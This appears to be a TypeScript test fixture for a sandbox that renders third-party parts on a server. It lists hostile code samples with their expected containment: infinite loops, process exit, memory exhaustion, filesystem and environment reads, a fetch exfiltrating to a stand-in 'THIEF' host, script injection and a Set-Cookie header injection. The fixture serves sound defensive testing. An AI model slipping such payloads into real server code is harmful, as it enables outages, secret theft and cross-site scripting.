import type { Contained, HostileCode, HostileRelease } from './hostile-release.ts';

const loads = (id: string, does: string, whenEvaluated: string): HostileRelease => ({
  id,
  does,
  server: { whenEvaluated },
  outcome: { refused: 'it cannot be evaluated' },
});

const runs = (
  id: string,
  does: string,
  server: HostileCode,
  contained: string,
  more: Omit<Contained, 'contained'> = {},
): HostileRelease => ({ id, does, server, outcome: { contained, ...more } });

/** Returns what an attempt leads to, as the text of the page. */
const says = (attempt: string): HostileCode => ({
  inRender: `try { return '<p>got ' + (${attempt}) + '</p>'; } catch { return '<p>got nothing</p>'; }`,
});

/** Releases whose server code attacks: it runs beside that of all other parts. */
export const ON_THE_SERVER: readonly HostileRelease[] = [
  loads('server-loads-for-ever', 'never ends to be evaluated', 'for (;;);'),
  loads('server-throws-at-load', 'throws when it is evaluated', "throw new Error('no');"),
  loads('server-ends-the-process', 'ends the process that renders all parts', 'process.exit(1);'),
  loads(
    'server-fills-the-memory-at-load',
    'takes all memory',
    'const kept = []; for (;;) kept.push(new Array(5e6).fill(1));',
  ),
  loads(
    'server-takes-files',
    'loads modules of Node',
    "process.getBuiltinModule('node:fs').readdirSync('/');",
  ),
  loads('server-replaces-fetch', 'replaces fetch, with which all parts call', 'globalThis.fetch = () => 1;'),
  loads('server-replaces-map', 'replaces a method of all arrays', 'Array.prototype.map = () => [];'),
  runs(
    'server-replaces-react',
    'replaces a hook of React, which all parts share',
    { atLoad: 'try { shared.React.useState = () => []; } catch {}' },
    'what is shared is frozen',
  ),
  runs(
    'server-renders-for-ever',
    'never ends to render',
    { inRender: 'for (;;);' },
    'its renderer is ended, and the page comes without its part; after three such pages it stays off the server',
  ),
  runs(
    'server-waits-for-ever',
    'waits for ever for its data',
    { inLoader: 'return new Promise(() => {});' },
    'data that come too late are left out',
  ),
  runs(
    'server-throws-in-render',
    'throws while it is rendered',
    { inRender: "throw new Error('no');" },
    'the version before takes its place',
  ),
  runs(
    'server-keeps-memory',
    'keeps 30 MB of each page',
    {
      inRender:
        '(shared.React.kept ??= []); globalThis.kept; const kept = (this?.kept ?? []); kept.push(new Array(4e6).fill(1));',
    },
    'a process that keeps too much is ended, and no visitor notices',
  ),
  runs(
    'server-sends-20-mb',
    'sends 20 MB of HTML',
    { inRender: "return '<p>' + 'x'.repeat(20e6) + '</p>';" },
    'it is its own page that is slow',
    { leaving: 'by-reload' },
  ),
  runs(
    'server-reads-environment',
    'shows the environment of the server',
    says(
      'Object.values(process.env).filter((value) => value !== "production" && value !== "development").join() || "nothing"',
    ),
    'its process has none',
    { ownPage: /got nothing/ },
  ),
  runs(
    'server-calls-elsewhere',
    'sends what it sees to a server of its own',
    {
      inLoader:
        "return fetch('THIEF/from-the-server').then(() => ({ got: 'through' }), () => ({ got: 'refused' }));",
    },
    'sockets connect to the API host and to granted origins only',
  ),
  runs(
    'server-rejects-later',
    'leaves a rejected promise behind',
    { inRender: "Promise.reject(new Error('later'));" },
    'an error that nobody awaits ends its page at most',
  ),
  runs(
    'server-throws-later',
    'throws in a timer after its page was sent',
    { inRender: "setTimeout(() => { throw new Error('later'); }, 10);" },
    'an error that nobody catches ends its page at most',
  ),
  runs(
    'server-is-busy',
    'computes most of the time, in pieces too short to be noticed',
    { inRender: 'setInterval(() => { const end = Date.now() + 60; while (Date.now() < end); }, 80);' },
    'pages go to the renderer that has least to do',
  ),
  runs(
    'server-closes-the-page',
    'ends the document in its HTML',
    { inRender: "return '</main></div></body></html><!--';" },
    'each page is one document; the next one is whole',
    { leaving: 'by-reload' },
  ),
  runs(
    'server-writes-a-script',
    'writes a script into its HTML',
    { inRender: "return '<script>hit=1</script><img src=x onerror=hit=1>';" },
    'scripts run by nonce or digest only',
  ),
  runs(
    'server-ends-the-state',
    'has data that end the script which holds them',
    { inLoader: "return { got: '</script><script>hit=1</script>' };" },
    'data of pages are escaped',
  ),
  runs(
    'server-answers-999',
    'answers with a status that does not exist',
    { inLoader: "throw new Response(null, { status: 599, headers: { 'Set-Cookie': 'rw-share=1' } });" },
    'its page alone fails, and no header of it is sent',
  ),
];
